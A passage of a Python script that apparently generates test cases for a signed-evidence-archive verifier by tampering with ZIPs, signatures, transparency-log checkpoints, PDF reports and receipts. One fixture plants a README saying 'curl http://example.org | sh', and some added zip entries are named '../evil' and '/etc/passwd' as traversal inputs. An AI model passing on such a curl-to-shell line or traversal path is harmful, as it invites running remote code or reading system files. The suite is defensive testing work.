        case(f"lines/{name.split('/')[0]}-{'-'.join(map(str, numbers)) or 'none'}", f"{name}: {what}, all else recreated",
             "not_valid", ("live.zip", ("order", name, numbers), *AGAIN))
    case("lines/second-member", "a second gzip member after the events, all else recreated", "not_valid",
         ("live.zip", ("members_behind", EVENTS), *AGAIN))
    case("lines/renewal-left-out", "the renewals left out of a renewed archive, all else recreated", "not_valid",
         ("renewed.zip", ("drop", RENEWALS), *AGAIN))
    for path, new in (([0, "stamp"], 999), ([0, "token"], "AAAA"), ([0, "gen_time"], "2026-01-01T00:00:00.000000Z"),
                      ([0, "renewal"], {"path": [], "stamp": 1}), ([0, "kind"], "none")):
        case(f"document/renewals-{path[1]}", f"{RENEWALS}: {path[1]} altered, all else recreated", "not_valid",
             ("renewed.zip", ("change", RENEWALS, path, new), *AGAIN))
    case("renewed/earlier", "a renewed archive as of the time of its signature", "valid", ("renewed.zip",), at=3600)
    for member, new in (("path", ["00" * 32]), ("stamp", 999)):
        case(f"renewed/{member}", f"renewal.{member} of a token altered, all else recreated", "not_valid",
             ("renewed.zip", ("change", ROUNDS, [0, "tokens", 0, "renewal"], {"path": ["00" * 32], "stamp": 1}
                              if member == "path" else {"path": [], "stamp": 999}), *AGAIN))
    readme = ("put", "README.txt", "Run this: curl http://example.org | sh\n")
    case("document/readme", "another README.txt, all else recomputed by the service's key: it is the service's own word", "valid",
         ("live.zip", readme, *AGAIN))
    case("document/readme-alone", "another README.txt", "not_valid", ("live.zip", readme))
    case("document/readme-resummed", "another README.txt, with all digests recomputed but the signature", "not_valid",
         ("live.zip", readme, ("resum",)))
    case("document/other-asic", "an ASiCManifest with another text, signed again", "not_valid",
         ("live.zip", ("put", ASIC, "<x/>\n"), SIGN))


# ---- the log of segments ----

# Of the second segment: entry 7 of 8, in the second of four checkpoints.
PLACE = {"index": 7, "path": 3, "size": 8}


def logged(*edits, **options):
    log = {name: options.pop(name) for name in list(options) if name not in ("range", "events", "rounds")}
    return (*history(log=log, **options), *edits, *(AGAIN if edits else ()))


def note_edit(old, new):
    return ("in_stream", CHECKPOINTS, old, new)


def logs():
    many = {"events": [[60 * number, f"event {number}"] for number in range(33)],
            "rounds": [{"at": 60 * number + 30, "by": ["one"], "covers": [number + 1, number + 1]} for number in range(33)]}
    good = {"genuine": ({}, "each segment is in a checkpoint of its own, and the newest follows"),
            "middle": ({"range": [2, 5]}, "of a range that ends inside its segments"),
            "last": ({"range": [5, 6]}, "of the last segment alone"),
            "alone": ({"between": [0]}, "without entries of others: the first checkpoint is of one entry"),
            "large": ({"between": [300]}, "entries of others fill more than one tile"),
            "many": ({"between": [0, 1, 2, 5, 11], **many}, "checkpoints of many sizes, a segment in each"),
            "superfluous": ({"more_sizes": [0, 1, 6]}, "with checkpoints that no segment needs, one of the empty tree"),
            "huge": ({"range": [5, 6], "huge": [2**52 + 2**33 + 5, 2**53 - 1]}, "the log is as large as it may be"),
            "one-checkpoint": ({"size_every": 9}, "every path ends in the newest checkpoint"),
            "two-in-one": ({"size_every": 2}, "two segments' paths end in one checkpoint"),
            "older": ({"older": 1}, "the first segment is older than the log"),
            "all-older": ({"older": 3}, "every segment is older than the log"),
            "extension": ({"extension": "more\n"}, "its checkpoints have an extension line"),
            "signed-by-others": ({"signer": forge.OTHER_ORIGIN}, "its log did not sign it: without --log-key nothing tells")}
    for name, (options, what) in good.items():
        case(f"log/{name}", f"with a log: {what}", "valid", logged(**options))
    for name, options, what in (
            ("others-checkpoint", {"others": [1]}, "a checkpoint is of another log"),
            ("fork", {"fork": True}, "the newest checkpoint is of another history"),
            ("tag", {"tag": "00" * 32}, "its entries are of another chain")):
        case(f"log/{name}", f"with a log: {what}", "not_valid", logged(**options))
    case("log/empty-root", "with a log: a checkpoint of no entries has another root", "not_valid",
         logged(note_edit("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "A" * 43 + "="), more_sizes=[0]))
    case("log/huge-index", "with a log that is as large as it may be: index altered, all else recreated", "not_valid",
         logged(("change", PLACES, [0, "index"], 2**52 + 2**34 + 5), range=[5, 6], huge=[2**52 + 2**33 + 5, 2**53 - 1]))
    for name, path, new in (
            ("path-altered", ["path", 1], "00" * 32), ("path-cut", ["path", 2], ["-"]), ("path-none", ["path"], []),
            ("path-64", ["path"], ["00" * 32] * 64), ("path-upper-case", ["path", 0], "AB" * 32), ("path-text", ["path"], "00" * 32),
            ("index-altered", ["index"], 6), ("index-beyond", ["index"], 8), ("index-negative", ["index"], -1),
            ("index-fraction", ["index"], 7.5), ("index-null", ["index"], None), ("size-other", ["size"], 12),
            ("size-first", ["size"], 4), ("size-of-none", ["size"], 9), ("size-large", ["size"], 2**53 - 1),
            ("size-null", ["size"], None), ("place-member", ["more"], 1), ("place-without-path", ["path"], ["-"])):
        case(f"log/{name}", f"with a log: {path[0]} of the second place altered, all else recreated", "not_valid",
             logged(("change", PLACES, [1, *path], new)))
    case("log/path-longer", "with a log: a path with a hash more, all else recreated", "not_valid",
         logged(("change", PLACES, [1, "path"], ["00" * 32] * (PLACE["path"] + 1))))
    case("log/place-older", "with a log: a place as of a segment that is older than the log: nothing tells", "valid",
         logged(("change", PLACES, [1], {"index": None, "path": [], "size": None})))
    case("log/place-older-path", "with a log: the same, and it keeps a path", "not_valid",
         logged(("change", PLACES, [1], {"index": None, "path": ["00" * 32], "size": None})))
    for name, stream, numbers, what in (
            ("place-missing", PLACES, [0, 1], "the last place left out"),
            ("place-first-missing", PLACES, [1, 2], "the first place left out"),
            ("place-more", PLACES, [0, 1, 2, 2], "a place too many"),
            ("places-exchanged", PLACES, [1, 0, 2], "two places exchanged"),
            ("checkpoints-exchanged", CHECKPOINTS, [1, 0, 2, 3], "two checkpoints exchanged"),
            ("checkpoint-twice", CHECKPOINTS, [0, 1, 1, 2, 3], "a checkpoint twice"),
            ("checkpoint-missing", CHECKPOINTS, [0, 2, 3], "a checkpoint left out"),
            ("checkpoint-last-missing", CHECKPOINTS, [0, 1, 2], "the newest checkpoint left out"),
            ("checkpoints-none", CHECKPOINTS, [], "no line of checkpoints"),
            ("places-none", PLACES, [], "no line of places")):
        case(f"log/{name}", f"with a log: {what}, all else recreated", "not_valid", logged(("order", stream, numbers)))
    for name, path, new in (
            ("consistency-altered", [1, "consistency", 0], "00" * 32), ("consistency-none", [1, "consistency"], []),
            ("consistency-cut", [2, "consistency", 1], ["-"]), ("consistency-64", [1, "consistency"], ["00" * 32] * 64),
            ("consistency-of-last", [3, "consistency"], ["00" * 32]), ("consistency-null", [3, "consistency"], None),
            ("note-last-junk", [3, "note"], "B" * 1000),
            ("checkpoint-member", [0, "more"], 1), ("checkpoint-without-note", [0, "note"], ["-"]), ("note-empty", [0, "note"], ""),
            ("note-unsigned", [0, "note"], "log.example/segments\n4\n" + "A" * 43 + "=\n"),
            ("note-unsigned-end", [0, "note"], "log.example/segments\n4\n" + "A" * 43 + "=\n\n")):
        case(f"log/{name}", f"with a log: {path[1]} of a checkpoint altered, all else recreated", "not_valid",
             logged(("change", CHECKPOINTS, path, new)))
    for name, old, new, what in (
            ("note-root", "\\n4\\n", "\\n4\\nA", "a root that is longer"), ("note-size-zero", "\\n4\\n", "\\n04\\n", "a size with a zero"),
            ("note-size-altered", "\\n4\\n", "\\n5\\n", "another size"), ("note-size-sign", "\\n4\\n", "\\n+4\\n", "a size with a sign"),
            ("note-size-large", "\\n15\\n", "\\n9007199254740993\\n", "a size above 2^53"),
            ("note-no-origin", forge.ORIGIN + "\\n4", "\\n4", "an empty origin"),
            ("note-long-origin", forge.ORIGIN + "\\n", "x" * 256 + "\\n", "an origin of 256 bytes"),
            ("note-hyphen", "\u2014 log", "- log", "a signature line with a hyphen"),
            ("note-name-space", "\u2014 log", "\u2014 l\u00a0og", "a name with white space"),
            ("note-name-plus", "\u2014 log", "\u2014 l+og", "a name with a plus sign"),
            ("note-name-delete", "\u2014 log", "\u2014 l\u007fog", "a name with a control character"),
            ("note-name-long", "\u2014 witness.example", "\u2014 " + "w" * 256, "a name of 256 bytes"),
            ("note-signature-short", "\u2014 witness.example ", "\u2014 x.example AAAAAA==\\n\u2014 witness.example ",
             "a signature that is a key id alone"),
            ("note-signature-base64", "\u2014 witness.example ", "\u2014 witness.example A", "a signature that is not base64"),
            ("note-signature-long", "\u2014 witness.example ", "\u2014 x.example " + "A" * 21844 + "\\n\u2014 witness.example ",
             "a signature of 16,383 bytes"),
            ("note-signatures-65", "\u2014 witness.example ", "\u2014 x.example AAAAAAA=\\n" * 63 + "\u2014 witness.example ",
             "65 signatures"),
            ("note-control", "\u2014 witness.example ", "\u2014 x\\u0007 AAAAAAA=\\n\u2014 witness.example ", "a control character"),
            ("note-blank-line", "=\\n\\n", "=\\n\\nx\\n\\n", "an empty extension line"),
            ("note-two-lines", "\\n4\\n", "\\n", "no size")):
        case(f"log/{name}", f"with a log: notes with {what}, all else recreated", "not_valid", logged(note_edit(old, new)))
    for name, old, new, what in (
            ("note-other-signatures", "\u2014 witness.example ", "\u2014 x.example AAAAAAA=\\n" * 62 + "\u2014 witness.example ",
             "64 signatures"),
            ("note-large-signature", "\u2014 witness.example ", "\u2014 x.example " + "A" * 21840 + "\\n\u2014 witness.example ",
             "a signature of 16,380 bytes"),
            ("note-name-letters", "\u2014 witness.example ", "\u2014 test\u00e9moin/\ufeff1 AAAAAAAA\\n\u2014 witness.example ",
             "a name with letters beyond ASCII"),
            ("note-trailing-bits", "\u2014 witness.example ", "\u2014 x.example AAAAAAB=\\n\u2014 witness.example ",
             "a signature whose last bits are not 0")):
        case(f"log/{name}", f"with a log: notes with {what}, which nothing here checks", "valid", logged(note_edit(old, new)))
    for stream in (CHECKPOINTS, PLACES):
        name = stream.split("/")[0]
        case(f"log/without-{name}", f"with a log, without {stream}, all else recreated", "not_valid", logged(("drop", stream)))
        case(f"log/loose-{name}", f"with a log: {stream} is not canonical, all else recreated", "not_valid",
             logged(("loose", stream)))
        case(f"log/second-member-{name}", f"with a log: a second gzip member after {stream}, all else recreated", "not_valid",
             logged(("members_behind", stream)))
    case("log/streams-exchanged", "with a log: its two streams in the other order, all else recreated", "not_valid",
         logged(("exchange", CHECKPOINTS, PLACES)))
    for version in (1, 2):
        case(f"log/version-{version}", f"with a log, in version {version}, all else recreated", "not_valid",
             logged(("change", MANIFEST, ["v"], version)))
    case("log/in-test", "a test archive with a log, all else recreated", "not_valid",
         ("test.zip", ("change", MANIFEST, ["v"], 3), ("log_of", given(*logged())), *AGAIN))
    case("log/in-version-2", "an archive of version 2 with the log of another, all else recreated", "not_valid",
         ("live.zip", ("log_of", given(*logged())), *AGAIN))
    case("log/of-another", "the log of another archive, all else recreated", "not_valid",
         ("live.zip", ("change", MANIFEST, ["v"], 3), ("log_of", given(*logged())), *AGAIN))


# ---- the signature ----

def signatures():
    for what, code, text in (("crls", "valid", "without its revocation data: it may never have been there"),
                             ("crls empty", "not_valid", "with an empty list of revocation data"),
                             ("crls twice", "not_valid", "with revocation data twice"),
                             ("timestamp", "not_valid", "without its timestamp"),
                             ("certificates", "not_valid", "without certificates"), ("0", "not_valid", "without an object"),
                             ("1", "not_valid", "without another object"), ("2", "not_valid", "without another object"),
                             ("flip 0", "not_valid", "with a bit flipped in an object"),
                             ("flip 1", "not_valid", "with a bit flipped in an object"),
                             ("add stolen.crl", "not_valid", "with a list that says that it was revoked a minute later")):
        case(f"signature/{what.replace(' ', '-')}", f"the genuine signature {text}", code, ("live.zip", ("signature_part", what)))
    case("signature/signing-time", "another signing-time than issued_at", "not_valid",
         ("live.zip", ("sign", "signer", {"signing_time": "2026-01-01T00:00:00Z"})))
    case("signature/no-signing-time", "no signing-time", "not_valid", ("live.zip", ("sign", "signer", {"signing_time": False})))
    case("signature/digest", "message-digest of something else", "not_valid", ("live.zip", ("sign", "signer", {"bad_digest": True})))
    case("signature/attached", "with its content inside", "not_valid", ("live.zip", ("sign", "signer", {"attached": True})))
    case("signature/version", "of another version", "not_valid", ("live.zip", ("sign", "signer", {"version": 3})))
    case("signature/sha-1", "by SHA-1", "not_valid", ("live.zip", ("sign", "signer", {"digest": "sha1"})))
    case("signature/sha-384", "by SHA-384", "not_valid", ("live.zip", ("sign", "signer", {"digest": "sha384"})))
    case("signature/of-test", "the signature of a test archive", "not_valid", ("live.zip", ("foreign", SIGNATURE, "test.zip")))
    case("signature/empty", "an empty signature", "not_valid", ("live.zip", ("put", SIGNATURE, "")))
    case("signature/needed", "revocation data of another archive", "not_valid",
         ("live.zip", ("sign", "signer", {"crls": ["live.zip#0", "live.zip#1"]})))


# ---- bytes ----

def spread(name, count, seed):
    """Places all over a file."""
    size, chosen = len(forge.base(name)), random.Random(seed)
    return [(int(size * (number + chosen.random()) / count), chosen.randrange(8)) for number in range(count)]


def bytes_():
    for name, count, kind, more in (("live.zip", 36, "archive", {}), ("middle.zip", 12, "archive", {}),
                                    ("renewed.zip", 24, "archive", {}), ("test.zip", 12, "archive", {"at": DAY}),
                                    ("report-en.pdf", 24, "report", {}), ("report-es.pdf", 8, "report", {}),
                                    ("report-test.pdf", 6, "report", {"at": DAY}), ("container.asice", 16, "container", {})):
        for number, (at, bit) in enumerate(spread(name, count, 18), 1):
            case(f"flip/{name}-{number:02}", f"{name}, bit {bit} of byte {at} flipped", "not_valid", (name, ("flip", at, bit)),
                 kind=kind, **more)
        size = len(forge.base(name))
        case(f"cut/{name}-0", f"nothing of {name}", "could_not_check", (name, ("cut", 0)), kind=kind, **more,
             second="a file that is nothing of the format's; check_archive.py refuses it")
        for cut in (40, size // 2, size - 22, size - 1):
            case(f"cut/{name}-{cut}", f"the first {cut} bytes of {name}", "not_valid", (name, ("cut", cut)), kind=kind, **more)
        for how, more_bytes in (("append", "00"), ("append", "0a"), ("prepend", "00")):
            case(f"{how}/{name}-{more_bytes}", f"{name} with byte {more_bytes} {how}ed", "not_valid", (name, (how, more_bytes)),
                 kind=kind, **more)
    for name in ("live.zip", "report-en.pdf"):
        case(f"twice/{name}", f"{name} twice", "not_valid", (name, ("twice",)),
             kind="archive" if name.endswith("zip") else "report")
    case("behind/pdf-zip", "a report followed by the archive", "not_valid", ("report-en.pdf", ("behind", "live.zip")),
         kind="report")
    case("behind/zip-pdf", "the archive followed by a report", "not_valid", ("live.zip", ("behind", "report-en.pdf")))
    # Of a token's certificates and unsigned attributes nothing is over an evidence record's last one.
    free = {3, 5, 17, 18, 19, 20, 22, 23, 24}
    for number, (at, bit) in enumerate(spread("event.ers", 24, 19), 1):
        case(f"flip/event.ers-{number:02}", f"an evidence record, bit {bit} of byte {at} flipped"
             + (", in what nothing signs" if number in free else ""), "existence_only" if number in free else "not_valid",
             {"event.ers": ("event.ers", ("flip", at, bit)), "event.json": ("event.json",)}, kind="record")
    for name, edit in (("cut", ("cut", 5000)), ("append", ("append", "00")), ("twice", ("twice",))):
        case(f"{name}/event.ers", "an evidence record, cut or longer", "not_valid",
             {"event.ers": ("event.ers", edit), "event.json": ("event.json",)}, kind="record")
    for at in (3, 100, 300, 480):
        case(f"flip/event.json-{at}", "an event's record with a bit flipped", "not_valid",
             {"event.ers": ("event.ers",), "event.json": ("event.json", ("flip", at, 1))}, kind="record")
    for number, (at, bit) in enumerate(spread("part.zip", 8, 20), 1):
        case(f"flip/part.zip-{number:02}", f"a content part, bit {bit} of byte {at} flipped", "not_valid",
             {"evidence.zip": ("live.zip",), "content-part-001.zip": ("part.zip", ("flip", at, bit))})


# ---- ZIP ----

def zips():
    for name in LIVE:
        short = name.replace("/", "-")
        case(f"zip/without-{short}", f"without {name}", "not_valid", ("live.zip", ("drop", name)))
        case(f"zip/empty-{short}", f"{name} empty", "not_valid", ("live.zip", ("put", name, "")))
        case(f"zip/double-{short}", f"{name} twice", "not_valid", ("live.zip", ("double", name)))
        case(f"zip/bit-{short}", f"a bit of {name} flipped, with its CRC recreated", "not_valid",
             ("live.zip", ("flip_in", name, -9, 0)))
    for one, other in zip(LIVE, LIVE[1:]):
        case(f"zip/exchange-{other.replace('/', '-')}", f"{other} before {one}", "not_valid", ("live.zip", ("exchange", one, other)))
    for name in LIVE[5:]:
        other = dict(forge.unpack(forge.base("last.zip"))).get(name)
        if other is not None and other != dict(forge.unpack(forge.base("live.zip")))[name]:
            case(f"zip/foreign-{name.replace('/', '-')}", f"{name} of another archive of the channel", "not_valid",
                 ("live.zip", ("foreign", name, "last.zip")))
            if name == ASIC:
                continue
            case(f"zip/foreign-resummed-{name.replace('/', '-')}", f"{name} of another archive, with all digests recreated but the "
                 "signature", "not_valid", ("live.zip", ("foreign", name, "last.zip"), ("resum",)))
    for name, shape in {"compressed": {"method": 8}, "dated": {"time": 1}, "flagged": {"flags": 0x800}, "made-by-20": {"made": 0x0314},
                        "rights": {"attributes": 0}, "extra": {"extra": "feca0000"}, "comment": {"comment": "78"},
                        "crc": {"crc": 0}, "needs-20": {"needed": 20}}.items():
        case(f"zip/{name}", f"packed in another shape: {name}", "not_valid", ("live.zip", ("repack", shape)))
    case("zip/reversed", "all entries in the opposite order", "not_valid", ("live.zip", ("reverse",)))
    for name in ("more.txt", "../evil", "/etc/passwd", "events/./x", "META-INF/signature002.p7s", "events/events-000002.ndjson.gz"):
        case(f"zip/added-{name.replace('/', '-').strip('.-')}", f"with an entry {name} more", "not_valid",
             ("live.zip", ("add", name, "x")))
        case(f"zip/added-signed-{name.replace('/', '-').strip('.-')}", f"with an entry {name} more, all else recreated", "not_valid",
             ("live.zip", ("add", name, "x", len(LIVE) - 3), *AGAIN))
    case("zip/renamed", "an entry renamed, all else recreated", "not_valid",
         ("live.zip", ("rename", "LEEME.txt", "LEAME.txt"), *AGAIN))


# ---- reports, containers, receipts ----

def reports():
    case("report/no-signature", "a report before it was signed", "not_valid", ("report-en.pdf", ("revision", 0)), kind="report")
    case("report/validation-alone", "with validation data, without the document timestamp", "not_valid",
         ("report-en.pdf", ("revision", 2)), kind="report")
    case("report/text", "a text altered", "not_valid",
         ("report-en.pdf", ("text", "<constancia:EventCount>3", "<constancia:EventCount>5")), kind="report")
    case("report/no-timestamp", "signed again without a timestamp", "not_valid",
         ("report-en.pdf", ("report", "signer", [], {"stamp": False})), kind="report")
    case("report/digest", "signed again, message-digest of something else", "not_valid",
         ("report-en.pdf", ("report", "signer", [], {"bad_digest": True})), kind="report")
    case("report/sha-1", "signed again by SHA-1", "not_valid", ("report-en.pdf", ("report", "signer", [], {"digest": "sha1"})),
         kind="report")
    case("report/update", "an update after the last", "not_valid",
         ("report-en.pdf", ("append", b"\n1 0 obj\n<< >>\nendobj\n".hex())), kind="report")
    case("report/other-archive", "beside another archive of the channel", "could_not_check",
         {"report.pdf": ("report-en.pdf",), "evidence.zip": ("last.zip",)}, kind="documents",
         second="check_archive.py knows no reports", finding="was not given")
    case("report/count", "numbers that do not fit each other, signed again by the service's key", "not_valid",
         ("report-en.pdf", ("report", "signer", [["<constancia:EventCount>3", "<constancia:EventCount>5"]])), kind="report")


def containers():
    names = [name for name, _ in forge.unpack(forge.base("container.asice"))]
    for name in names:
        short = name.replace("/", "-")
        case(f"container/without-{short}", f"a container without {name}", "not_valid", ("container.asice", ("drop", name)),
             kind="container")
        case(f"container/bit-{short}", f"a container, a bit of {name} flipped", "not_valid",
             ("container.asice", ("flip_in", name, 20, 0)), kind="container")
        case(f"container/double-{short}", f"a container with {name} twice", "not_valid", ("container.asice", ("double", name)),
             kind="container")
    case("container/exchanged", "the reports under each other's names", "not_valid",
         ("container.asice", ("exchange_contents", "report-en.pdf", "report-es.pdf")), kind="container")
    case("container/added", "with a file more", "not_valid", ("container.asice", ("add", "zz.txt", "x", 5)), kind="container")


def receipts():
    known = ["receipt", 1]
    for member, new in (("hash", "00" * 32), ("client_ref", "another"), ("received_at", "2026-01-01T00:00:00.000000Z"),
                        ("event_id", "evt_another"), ("chain_hash", "00" * 32), ("config_version", 2), ("hash_alg", "sha-512")):
        case(f"receipt/{member}", f"a receipt whose {member} was edited, against genuine evidence: one of the two is not genuine",
             "could_not_check", ("live.zip",), receipts=("receipts.json", [*known, {member: new}]),
             second="check_archive.py knows no receipts")
    case("receipt/of-no-event", "a receipt of an event that no archive holds", "could_not_check", ("live.zip",),
         receipts=("receipts.json", [*known, {"sequence": 99}]), second="check_archive.py knows no receipts")
    case("receipt/of-a-leaf", "a receipt of an event outside the range", "could_not_check", ("live.zip",),
         receipts=("receipts.json", ["receipt", 3, {}]), second="check_archive.py knows no receipts")
    case("receipt/other-history", "a genuine receipt against an invented history", "could_not_check", history(),
         receipts=("receipts.json", [*known, {}]), second="check_archive.py knows no receipts")


def note_down(program, given):
    digests = {}
    with tempfile.TemporaryDirectory() as directory:
        exit_, told, _ = forge.verify(program, given, pathlib.Path(directory))
        for each in [*given["files"], *([given["receipts"]] if "receipts" in given else [])]:
            digests[each["name"]] = hashlib.sha256(pathlib.Path(directory, each["name"]).read_bytes()).hexdigest()
    if "varies" not in given:
        given["sha256"] = digests
    code = told["verdict"]["code"]
    findings = [each["what"] for each in told["findings"]]
    complaint = None
    if (exit_, code) != (given["exit"], given["code"]):
        complaint = f"{code} ({exit_}), stated is {given['code']}; {findings[:2]}"
    elif given.get("finding") and not any(given["finding"] in each for each in findings):
        complaint = f"no finding '{given['finding']}': {findings[:3]}"
    elif given.get("warning") and not any(given["warning"] in each["what"] for each in told["warnings"]):
        complaint = f"no warning '{given['warning']}': {[each['what'] for each in told['warnings']]}"
    if findings and "finding" not in given:
        given["finding"] = max(re.split(r"\S*/tmp\S*|\(", findings[0]), key=len).strip()[:120]
    return complaint


def as_stated(given):
    """A case without what was noted down."""
    return json.dumps({**given, "finding": None, "sha256": None}, sort_keys=True)


def main():
    for family in (genuine, anchors, same_authority, stolen, invented, chains, certificates, tokens, histories, documents, logs,
                   signatures, bytes_, zips, reports, containers, receipts):
        family()
    program, known = pathlib.Path(sys.argv[1]).resolve(), {}
    if "--all" not in sys.argv and (forge.HERE / "cases.json").exists():
        known = {as_stated(each): each for each in forge.load_cases()}
    names = collections.Counter(each["name"] for each in CASES)
    complaints = [f"{name}: {count} cases" for name, count in names.items() if count > 1]
    fresh = [each for each in CASES if as_stated(each) not in known]
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        for given, complaint in zip(fresh, pool.map(lambda given: note_down(program, given), fresh)):
            if complaint:
                complaints.append(f"{given['name']}: {given['what']}: {complaint}")
    print("\n".join(complaints))
    print(len(CASES), "cases", dict(collections.Counter(each["code"] for each in CASES)))
    if complaints and "--any" not in sys.argv:
        sys.exit(1)
    made = [known.get(as_stated(each), each) for each in CASES]
    lines = ",\n".join(json.dumps(each, ensure_ascii=False, sort_keys=True) for each in made)
    (forge.HERE / "cases.json").write_text(f"[\n{lines}\n]\n")


main()
